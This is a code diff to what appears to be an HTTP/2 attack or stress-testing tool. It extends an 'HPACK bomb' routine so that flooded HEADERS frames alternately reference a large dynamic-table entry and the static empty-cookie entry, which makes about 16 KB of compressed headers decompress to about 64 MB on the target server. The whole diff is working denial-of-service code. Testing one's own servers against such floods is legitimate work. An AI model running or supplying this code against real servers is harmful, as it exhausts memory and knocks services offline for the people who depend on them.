@@ -30,6 +30,8 @@ CONNECTIONS = 4
 MAX_STREAM = 2**31 - 1
 CANCEL = 8
 MAX_FRAME_BYTES = 16_384
+EMPTY_COOKIE = b"\xa0"
+"""Reference to entry 32 of the static table of HPACK: a cookie without a value."""
 FIRST_DYNAMIC_INDEX = 62
 """Index of the entry that was added last to the table of compressed headers."""
 
@@ -114,17 +116,17 @@ async def continuation_flood(run: AttackRun) -> None:
 
 @attack("headers that refer 16,000 times to an entry of 4 KB (HPACK bomb)")
 async def header_bomb(run: AttackRun) -> None:
-    """Let 16 KB of compressed headers become 64 MB."""
+    """Let 16 KB of compressed headers become 64 MB, by an entry that was sent before and by one that is always known."""
     entry = Encoder().encode([("x-a", "b" * 3900)])
     last_entry = bytes([0x80 | FIRST_DYNAMIC_INDEX])
     begin = headers_frame(1, header_block(run.target, HEALTH + "Check") + entry, "END_HEADERS", "END_STREAM")
     block = header_block(run.target, HEALTH + "Check")
-    bomb = block + last_entry * (MAX_FRAME_BYTES - len(block))
+    bombs = [block + entry * (MAX_FRAME_BYTES - len(block)) for entry in (last_entry, EMPTY_COOKIE)]
 
     def writes() -> Iterator[bytes]:
         yield begin
         for stream in range(3, MAX_STREAM, 2):
-            yield headers_frame(stream, bomb, "END_HEADERS", "END_STREAM")
+            yield headers_frame(stream, bombs[stream // 2 % 2], "END_HEADERS", "END_STREAM")
 
     await _flood(run, writes)
 
